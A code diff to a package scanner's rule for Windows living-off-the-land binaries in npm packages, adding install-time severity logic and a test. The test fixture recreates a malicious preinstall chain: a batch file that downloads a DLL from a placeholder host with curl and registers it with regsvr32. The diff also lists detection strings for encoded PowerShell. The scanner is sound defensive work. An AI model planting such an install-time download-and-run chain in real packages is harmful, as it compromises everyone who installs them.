@@ -23,7 +23,9 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// Windows build helpers call `rundll32` or PowerShell openly; encoded or hidden invocations are what matter.
-    /// Without a spawn or file write in the same file the rule is quiet. URL openers (the `open` package, bundled
+    /// Without a spawn or file write in the same file the rule is quiet (a shell, batch or PowerShell file is itself a
+    /// command: in one that install-time code starts, the rule is critical; in one nothing starts, the finding weighs
+    /// half). URL openers (the `open` package, bundled
     /// by dev servers) pass `-EncodedCommand` as a lone argument with a payload base64-encoded at run time from
     /// a command visible in the code: a flag with no constant payload in the same string is low (a command built in the code is searched like
     /// any other string: `IEX(`, `DownloadString(` in it are still found).
@@ -33,17 +35,24 @@ diligence_finding::declare_rule! {
 /// One finding per LOLBin line in a spawning/writing file.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     per_signal(p, Kind::LolBin, |f, s| {
-        let loc = locality(
-            p,
-            f,
-            s,
-            &[Kind::Spawn, Kind::FsWrite, Kind::LifecycleScript],
-        );
+        // A command line (lifecycle script, script file, binding.gyp expansion) runs what it
+        // names: it needs no spawn elsewhere.
+        let command = crate::scripts::in_command(f, s.line);
+        let loc = if command {
+            Locality::Function
+        } else {
+            locality(
+                p,
+                f,
+                s,
+                &[Kind::Spawn, Kind::FsWrite, Kind::LifecycleScript],
+            )
+        };
         if loc < Locality::File {
             return None;
         }
-        // In a lifecycle script the command runs on every install: no benign reading left.
-        let in_script = f.of(Kind::LifecycleScript).any(|x| x.line == s.line);
+        // Run on every install: no benign reading left.
+        let in_script = command && crate::scripts::at_install(f, s.line);
         let severity = if in_script {
             Severity::Critical
         } else if is_bare_encoded_flag(&s.detail) {
@@ -122,5 +131,35 @@ mod tests {
             vec![("d.js".to_string(), 2)]
         );
         assert_eq!(s.findings[0].severity, diligence_finding::Severity::High);
+    }
+
+    /// ua-parser-js 0.7.29: the preinstall starts a batch file that registers a downloaded DLL.
+    #[test]
+    fn batch_file_started_at_install() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"t\",\"scripts\":{\"preinstall\":\"node pre.js\"}}",
+            ),
+            (
+                "pre.js",
+                "const { spawn } = require('child_process');\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'pre.bat']);\n",
+            ),
+            (
+                "pre.bat",
+                "@echo off\r\ncurl https://c.example.net/a.dll -o a.dll\r\nregsvr32.exe -s a.dll\r\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/windows-lolbin"),
+            vec![("pre.bat".to_string(), 3)]
+        );
+        assert_eq!(
+            s.findings
+                .iter()
+                .find(|f| f.rule == "code/windows-lolbin")
+                .map(|f| f.severity),
+            Some(diligence_finding::Severity::Critical)
+        );
     }
 }
